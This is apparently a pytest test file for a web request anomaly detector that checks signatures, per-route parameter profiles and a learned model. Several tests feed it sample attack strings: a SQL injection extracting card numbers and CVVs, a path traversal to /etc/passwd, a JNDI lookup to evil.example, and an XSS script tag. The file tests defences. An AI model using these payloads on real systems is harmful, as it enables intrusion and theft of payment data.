"""RequestAnalyzer: signatures, then profiles and the model, per request and in batches."""

from __future__ import annotations

import random
from pathlib import Path

import numpy as np
import orjson
import pytest

from detector.analysis.analyzer import RequestAnalyzer
from detector.analysis.batch_model import RequestForest
from detector.analysis.features import FEATURE_NAMES, feature_matrix, schema
from detector.analysis.profiles import ProfileStore
from detector.analysis.request_model import PROFILES_FILE
from detector.events import AccessEvent
from detector.models.registry import ModelRegistry, RegistryError

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0"


def ev(
    method: str, path: str, query: str = "", body: str | None = None, line: int = 1, ua: str = UA
) -> AccessEvent:
    return AccessEvent(
        1773738000.0 + line,
        "pay",
        None,
        method,
        path,
        query,
        200,
        0.01,
        100,
        "203.0.113.7",
        ua,
        body,
        None,
        "t.log",
        line,
    )


def normal(rng: random.Random, i: int) -> tuple[AccessEvent, str]:
    if i % 2:
        body = orjson.dumps(
            {
                "amount": rng.randint(100, 5000),
                "currency": rng.choice(["EUR", "USD"]),
                "capture": rng.random() < 0.5,
            }
        ).decode()
        return ev("POST", "/v2/charges", body=body, line=i), "/v2/charges"
    q = f"limit={rng.choice([10, 20, 50])}&page={rng.randint(1, 9)}"
    return ev("GET", "/v2/charges", q, line=i), "/v2/charges"


@pytest.fixture(scope="module")
def trained() -> RequestAnalyzer:
    a = RequestAnalyzer()
    rng = random.Random(3)
    for i in range(600):
        a.learn(*normal(rng, i))
    return a


def charge(**extra: object) -> AccessEvent:
    return ev(
        "POST",
        "/v2/charges",
        body=orjson.dumps({"amount": 900, "currency": "EUR", "capture": True, **extra}).decode(),
    )


def test_signature_hit_is_attack_payload(trained: RequestAnalyzer) -> None:
    f = trained.analyze(
        ev("GET", "/v2/charges", "limit=10&page=1'+UNION+SELECT+card,cvv+FROM+cards--"),
        "/v2/charges",
    )
    assert f is not None and f.kind == "attack_payload" and "sqli" in f.attack_types
    assert f.rule_ids and 0.5 < f.score <= 0.99 and any("in query" in r for r in f.reasons)
    f = trained.analyze(ev("GET", "/static/../../../../etc/passwd"), "/static/{rest}")
    assert f is not None and f.kind == "attack_payload"  # path checked on the cheap path too
    f = trained.analyze(ev("GET", "/", ua="${jndi:ldap://evil.example/a}"), "/")
    assert f is not None and f.kind == "attack_payload"


def test_profile_deviation_is_unusual_payload(trained: RequestAnalyzer) -> None:
    for e, reason in [
        (charge(is_admin=True), "unknown parameter is_admin"),
        (charge(currency="E" * 600), "currency: length 600"),
        (charge(amount={"value": 1}), "amount: object where int lives"),
        (ev("GET", "/v2/charges", "limit=10&page=1&role=admin"), "unknown parameter role"),
    ]:
        f = trained.analyze(e, "/v2/charges")
        assert f is not None and f.kind == "unusual_payload", reason
        assert f.attack_types == () and f.rule_ids == () and f.score >= 0.5
        assert f.reasons[0].startswith(reason)


def test_normal_requests_pass(trained: RequestAnalyzer) -> None:
    rng = random.Random(11)
    pairs = [normal(rng, i) for i in range(400)]
    assert trained.analyze_many([e for e, _ in pairs], [r for _, r in pairs]) == [None] * 400
    assert trained.analyze(ev("GET", "/v2/balance"), "/v2/balance") is None


def test_verdict_covers_every_request(trained: RequestAnalyzer) -> None:
    v = trained.verdict(charge(currency="JPY"), "/v2/charges")  # weak: enum outside
    assert v["flagged"] is False and v["kind"] is None and 0 < v["score"] < 0.5
    assert any(r.startswith("currency: value outside its 2 known values") for r in v["reasons"])
    v = trained.verdict(charge(is_admin=True), "/v2/charges")
    assert v["flagged"] is True and v["kind"] == "unusual_payload" and v["attack_type"] is None
    v = trained.verdict(ev("GET", "/v2/charges", "page=<script>alert(1)</script>"), "/v2/charges")
    assert v["flagged"] and v["kind"] == "attack_payload" and v["attack_type"] == "xss"
    assert set(v) == {"score", "flagged", "kind", "attack_type", "reasons", "rule_ids"}


class NoProfiles(ProfileStore):
    def assess(self, *args: object, **kwargs: object) -> object:  # type: ignore[override]
        raise AssertionError("profiles consulted for a request without query or body")


def test_cheap_path_skips_profiles() -> None:
    a = RequestAnalyzer(profiles=NoProfiles())
    assert (
        a.analyze_many(
            [ev("GET", f"/v2/charges/{i}") for i in range(50)], ["/v2/charges/{id}"] * 50
        )
        == [None] * 50
    )


def test_from_empty_registry_learns_online(tmp_path: Path) -> None:
    a = RequestAnalyzer.from_registry(tmp_path)
    assert a.version is None and a.model is None and a.learn_online
    rng = random.Random(5)
    # 250 requests per route: past the cold start (ProfileStore.min_history, 200)
    pairs = [normal(rng, i) for i in range(500)]
    assert a.analyze_many([e for e, _ in pairs], [r for _, r in pairs]) == [None] * 500
    f = a.analyze(charge(is_admin=True), "/v2/charges")
    assert f is not None and f.kind == "unusual_payload"
    # what it flags it does not learn
    f = a.analyze(charge(is_admin=True), "/v2/charges")
    assert f is not None and f.kind == "unusual_payload"


def test_from_registry_uses_profiles_and_model(tmp_path: Path, trained: RequestAnalyzer) -> None:
    rng = random.Random(8)
    rows = [trained.profile_features(*normal(rng, i)) for i in range(1000)]
    model = RequestForest(n_estimators=30).fit(feature_matrix(rows))
    reg = ModelRegistry(tmp_path)
    reg.publish(
        "request",
        model,
        artifacts={PROFILES_FILE: trained.profiles.save_state()},
        feature_schema=schema(),
    )
    a = RequestAnalyzer.from_registry(tmp_path)
    assert a.version == reg.current("request") and a.model is not None and not a.learn_online
    f = a.analyze(charge(is_admin=True), "/v2/charges")
    assert f is not None and f.kind == "unusual_payload"
    f = a.analyze(charge(note="x" * 300 + "';--" * 40), "/v2/charges")
    assert f is not None and any(r.startswith("model: unusual request shape") for r in f.reasons)
    rng = random.Random(12)
    pairs = [normal(rng, i) for i in range(300)]
    flagged = a.analyze_many([e for e, _ in pairs], [r for _, r in pairs])
    assert sum(f is not None for f in flagged) <= 3


def test_schema_mismatch_is_refused(tmp_path: Path) -> None:
    model = RequestForest(n_estimators=5).fit(
        np.zeros((50, len(FEATURE_NAMES))) + np.arange(50)[:, None]
    )
    ModelRegistry(tmp_path).publish("request", model, feature_schema={"version": 0, "names": []})
    with pytest.raises(RegistryError, match="feature schema"):
        RequestAnalyzer.from_registry(tmp_path)
